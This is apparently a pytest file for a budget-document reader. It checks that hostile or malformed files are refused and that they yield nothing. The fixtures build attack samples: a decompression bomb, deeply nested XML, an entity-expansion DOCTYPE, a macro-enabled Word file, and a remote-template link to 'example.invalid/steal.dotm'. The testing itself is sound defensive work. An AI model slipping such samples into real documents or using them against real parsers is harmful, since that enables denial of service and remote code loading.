"""Texts nobody should send, and such of another kind: one verdict each, and nothing taken."""

import io
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from parts import texts
from parts.commands import program
from parts.real import missing
from parts.texts import HEAD, lines, paragraph, pdf_file, project_in_word, sums, told, word_file
from xlperf import FileError, read_text
from xlperf.publishing import read_texts
from xlperf.publishing.texts import older_formats, one_text
from xlperf.reading.many_files import Bounds

FORM = "hebei-2023"
OUTSIDE = (
    f'<Relationship Id="r7" Type="{texts.OFFICE}/attachedTemplate" '
    'Target="http://example.invalid/steal.dotm" TargetMode="External"/>'
)


def bomb() -> bytes:
    """A Word file of a few kilobytes that would fill a disk."""
    return word_file("", {"word/document.xml": b"<w:p/>" * 20_000_000})


def deep() -> bytes:
    """A Word file whose elements stand inside each other without end."""
    return word_file("<w:sdt>" * 5_000 + "</w:sdt>" * 5_000)


def declaring() -> bytes:
    """A Word file that declares what its words mean."""
    own = (
        '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        f'<w:document xmlns:w="{texts.WORD}"><w:body>&b;</w:body></w:document>'
    )
    return word_file("", {"word/document.xml": own})


STRANGE: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing.txt": (lambda: b"", "file.empty"),
    "zeros.pdf": (lambda: b"\0" * 999, "file.empty"),
    "picture.png": (lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 99, "text.kind"),
    "workbook.xlsx": (lambda: empty_zip("xl/workbook.xml"), "text.kind"),
    "archive.zip": (lambda: empty_zip("a.txt"), "text.kind"),
    "no-encoding.txt": (lambda: "预算".encode() + b"\xff\xff 81", "text.encoding"),
    "macros.docm": (
        lambda: word_file(project_in_word(), {"word/vbaProject.bin": b"x"}), "text.macros",
    ),
    "bomb.docx": (bomb, "file.bomb"),
    "deep.docx": (deep, "file.too-deep"),
    "doctype.docx": (declaring, "file.doctype"),
    "half.docx": (lambda: word_file(project_in_word())[:-200], "file.truncated"),
    "no-main.docx": (
        lambda: word_file("", {"_rels/.rels": f'<Relationships xmlns="{texts.PACKAGE}"/>'}),
        "file.broken",
    ),
    "secret.docx": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage\0".encode("utf-16-le"),
        "file.encrypted",
    ),
    "scan.pdf": (texts.picture_pdf, "text.scanned"),
    "secret.pdf": (texts.secret_pdf, "file.encrypted"),
    "long.pdf": (lambda: pdf_file(pages=500), "text.too-many-pages"),
    "broken.pdf": (lambda: b"%PDF-1.7\n" + b"garbage " * 99, "file.broken"),
}  # fmt: skip


def empty_zip(name: str) -> bytes:
    """A zip with one part."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as package:
        package.writestr(name, "x")
    return file.getvalue()


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", STRANGE)
def test_each_has_one_verdict(name: str, tmp_path: Path) -> None:
    made, code = STRANGE[name]
    path = tmp_path / name
    path.write_bytes(made())
    with pytest.raises(FileError) as refused:
        read_text(path, FORM)
    assert refused.value.code == code
    assert str(path) in str(refused.value)


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_many_of_them_beside_a_good_one_cost_it_nothing(tmp_path: Path) -> None:
    good = tmp_path / "good.txt"
    good.write_text(lines(), encoding="utf-8")
    for name in ("scan.pdf", "half.docx", "macros.docm"):
        (tmp_path / name).write_bytes(STRANGE[name][0]())
    paths = [tmp_path / name for name in ("scan.pdf", "good.txt", "half.docx", "macros.docm")]
    read = list(read_texts([*paths, tmp_path / "gone.docx"], FORM, workers=1))
    assert [len(each.projects) for each in read] == [0, 1, 0, 0, 0]
    assert [[one.code for one in each.findings] for each in read if not each.projects] == [
        ["text.scanned"], ["file.truncated"], ["text.macros"], ["file.not-found"],
    ]  # fmt: skip


def test_what_a_text_points_at_is_told_and_never_opened(tmp_path: Path) -> None:
    filled = read_text(word_file(project_in_word(), relations=OUTSIDE), FORM)
    assert told(filled, "text.outside") == ["|http://example.invalid/steal.dotm"]
    assert [each.code for each in filled] == [HEAD[0][1]]


def test_text_over_a_picture_of_the_page_is_not_taken() -> None:
    filled = read_text(texts.recognised_pdf(), FORM)
    assert told(filled, "text.over-picture") == ["|1"]
    assert filled.projects == ()
    whole, taken, left = sums(filled)
    assert (taken, left) == (0, whole)
    assert whole == len("Budget1038.03")


def test_white_text_is_not_taken_unless_it_stands_on_something_dark() -> None:
    shown = b"0 g BT /F1 12 Tf 60 700 Td (seen) Tj ET "
    hidden = b"1 g BT /F1 12 Tf 60 600 Td (unseen) Tj ET "
    ground = b"0 0 1 rg 50 490 200 30 re f 1 1 1 rg BT /F1 12 Tf 60 500 Td (light) Tj ET"
    filled = read_text(pdf_file(stream=shown + hidden + ground), FORM)
    assert told(filled, "text.hidden") == ["|1"]
    whole, taken, left = sums(filled)
    assert (whole, taken, left) == (15, 0, 15)
    assert "unseen" in " ".join(told(filled, "text.left-over"))


OTHER = """某某县 2023 年部门预算公开

一、部门职责
负责全县讲座工作。

二、收支总表
项目\t本年预算\t上年预算
一般公共预算拨款收入\t1,200.50\t1,100.00
政府性基金预算拨款收入\t0.00\t0.00
合计\t1,200.50\t1,100.00

三、“三公”经费
公务接待费 1.20 万元，比上年减少 0.30 万元。
"""


def test_of_a_text_of_another_kind_nothing_is_taken_and_all_is_left_over() -> None:
    filled = read_text(OTHER.encode(), FORM, name="other.txt")
    assert (filled.projects, filled.part, filled.form) == ((), None, None)
    assert told(filled, "form.none") == ["|"]
    whole, taken, left = sums(filled)
    signs = len("".join(OTHER.split()))
    assert whole == signs
    assert left == signs - len("某某县2023年部门预算公开")  # which might be any cover
    assert taken == whole - left
    assert "1,200.50" not in str(filled.projects)


def test_a_pdf_of_another_kind_gives_nothing_either() -> None:
    stream = b"".join(
        b"BT /F1 12 Tf 60 %d Td (%s) Tj ET\n" % (760 - 20 * n, line)
        for n, line in enumerate(
            (b"Annual budget of a county", b"Income 1,200.50", b"Page of many")
        )
    )
    rules = b"60 600 300 60 re S 60 630 300 0 re S 200 600 0 60 re S\n"
    filled = read_text(pdf_file(pages=3, stream=stream + rules), FORM)
    assert filled.projects == ()
    assert filled.part is None
    whole, taken, left = sums(filled)
    assert whole == taken + left
    assert whole > 0
    assert told(filled, "form.none") == ["|"]


def test_a_text_of_another_year_is_told() -> None:
    cover = "甲局2022年部门预算绩效文本\n\n"
    filled = read_text((cover + lines()).encode(), FORM)
    assert told(filled, "text.other-year") == ["|2022"]
    same = read_text((cover.replace("2022", "2023") + lines()).encode(), FORM)
    assert told(same, "text.other-year") == []


@pytest.mark.parametrize(
    "date",
    [
        "2023年12月20日",
        "2023 年 12 月 20 日",
        "2023年12月",
        "2023-12-20",
        "2023/12/20",
        "2023.12.20",
    ],
)
def test_the_date_on_a_cover_is_not_the_year_of_the_text(date: str) -> None:
    def years(*cover: str) -> list[str]:
        text = "\n\n".join((*cover, lines()))
        return told(read_text(text.encode(), FORM, name="a.txt"), "text.other-year")

    assert years("2024年部门预算绩效文本", f"编制日期：{date}") == ["|2024"]
    assert years("2023年部门预算绩效文本", f"编制日期：{date.replace('2023', '2022')}") == []
    assert years("部门预算绩效文本", f"编制日期：{date}") == []
    assert years("部门预算绩效文本", f"编制日期：{date.replace('2023', '2024')}") == ["|2024"]
    assert years("2022-2024年预算绩效文本", f"编制日期：{date}") == ["|2022、2024"]


def test_tables_of_several_units_are_told() -> None:
    second = lines(above=("2.讲座绩效目标表", "125002 乙局", "单位：万元"))
    filled = read_text((lines() + "\n" + second).encode(), FORM)
    assert told(filled, "text.units") == ["|125001 甲局本级；125002 乙局"]
    assert any(each.blocks for each in filled.findings)
    assert told(read_text((lines() + "\n" + lines()).encode(), FORM), "text.units") == []


def test_of_several_units_nobody_knows_whose_the_paragraphs_are() -> None:
    prose = "一、总体绩效目标\n\n办好讲座。\n\n"
    second = lines(above=("2.讲座绩效目标表", "125002 乙局", "单位：万元"))
    filled = read_text((prose + lines() + "\n" + prose + second).encode(), FORM)
    assert filled.part is None
    assert len(filled.projects) == 2
    assert sums(filled)[2] == 2 * len("办好讲座。")
    alone = read_text((prose + lines()).encode(), FORM)
    assert alone.part
    assert alone.part.part.overall == ("办好讲座。",)


def test_a_table_of_another_form_is_not_half_taken() -> None:
    other = lines().replace("项目编码", "单位编码").replace("绩效目标\t办好", "年度目标\t办好")
    filled = read_text(other.replace("一级指标", "指标类型").encode(), FORM)
    assert filled.projects == ()
    whole, taken, left = sums(filled)
    assert whole == taken + left
    assert left > 150


def test_one_cell_a_line_cannot_be_placed_and_says_so() -> None:
    filled = read_text(lines().replace("\t", "\n").encode(), FORM)
    assert told(filled, "text.cell-a-line") == ["|"]
    assert filled.projects == ()
    whole, taken, left = sums(filled)
    assert left > whole / 2
    assert taken == whole - left


def test_a_text_that_takes_too_long_loses_its_own_verdict_only(tmp_path: Path) -> None:
    path = tmp_path / "slow.txt"
    path.write_text(lines() * 1_000, encoding="utf-8")
    (filled,) = read_texts([path], FORM, bounds=Bounds(seconds=0.2), workers=1)
    assert [each.code for each in filled.findings] == ["file.slow"]


def test_without_libreoffice_an_old_file_says_how_to_save_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(older_formats, "_PROGRAMS", ("no-such-program",))
    with pytest.raises(FileError, match="docx") as refused:
        read_text(rb"{\rtf1 text}", FORM, name="old.rtf")
    assert refused.value.code == "text.old-format"


def test_a_program_that_never_ends_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(older_formats, "_SECONDS", 0.5)
    started = time.monotonic()
    with pytest.raises(FileError) as refused:
        older_formats._run(["sleep", "60"], "old.doc")
    assert refused.value.code == "text.not-converted"
    assert time.monotonic() - started < 20


def test_without_the_reader_of_pdfs_that_is_what_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    import builtins  # noqa: PLC0415 - what it has is changed for this test

    own = builtins.__import__

    def gone(name: str, *given: object, **named: object) -> object:
        if name == "pdfplumber":
            raise ImportError(name)
        return own(name, *given, **named)  # type: ignore[arg-type]

    monkeypatch.setattr(builtins, "__import__", gone)
    with pytest.raises(FileError) as refused:
        one_text.pieces_of(b"%PDF-1.4", "a.pdf", one_text.Form.load(FORM))
    assert refused.value.code == "text.no-reader"


def test_the_command_gives_each_its_line(tmp_path: Path) -> None:
    (tmp_path / "scan.pdf").write_bytes(texts.picture_pdf())
    (tmp_path / "good.txt").write_text(lines(), encoding="utf-8")
    done = program("import", tmp_path, "--form", FORM)
    assert done.code in (0, 1)
    assert "扫描件" in done.out + done.error
    only = program("import", tmp_path / "scan.pdf", "--form", FORM)
    assert only.code == 2
    (tmp_path / "other.txt").write_text(OTHER, encoding="utf-8")
    other = program("import", tmp_path / "other.txt", "--form", FORM)
    assert other.code == 2
    assert "other.txt  第3–13行: 未读入的内容" in other.error


def test_real_pdfs_cut_short_are_told(shared: Path) -> None:
    path = shared / "published" / "seed-typst.pdf"
    if not path.is_file():
        missing("The published text", "put the shared folder beside the checkout")
    content = path.read_bytes()
    for end in (5_000, len(content) // 2):
        (filled,) = read_texts([content[:end]], FORM, workers=1)
        codes = {each.code for each in filled.findings}
        assert filled.projects == ()
        assert codes & {"file.broken", "text.scanned", "form.none"}


def test_plain_paragraphs_alone_give_nothing() -> None:
    filled = read_text(word_file(paragraph("只有一段话。")), FORM)
    assert filled.projects == ()
    assert told(filled, "text.left-over") == ["第1段|只有一段话。"]
